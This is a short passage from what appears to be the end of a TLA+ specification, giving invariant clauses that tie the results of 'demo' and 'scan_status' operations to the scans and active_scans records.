  /\ (ret.op = "demo" /\ ret.kind = "ok") => ret.id \in DOMAIN scans
  /\ (ret.op = "scan_status" /\ ret.id \in DOMAIN active_scans) =>
       (ret.kind = "ok" /\ ret.ref = scans[ret.id])

====
